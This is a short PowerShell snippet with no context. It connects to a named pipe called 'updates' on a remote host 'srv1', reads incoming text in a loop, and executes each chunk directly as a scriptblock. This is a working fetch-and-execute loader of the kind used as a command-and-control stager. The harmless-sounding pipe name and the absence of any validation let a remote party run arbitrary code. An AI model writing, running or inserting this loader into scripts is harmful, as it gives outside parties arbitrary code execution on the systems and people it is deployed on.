$p = [IO.Pipes.NamedPipeClientStream]::new('srv1', 'updates', 'InOut')
$p.Connect(3000)
$buffer = New-Object byte[] 4096
while (($n = $p.Read($buffer, 0, $buffer.Length)) -gt 0) {
  $text = [Text.Encoding]::UTF8.GetString($buffer, 0, $n)
  & ([scriptblock]::Create($text))
}
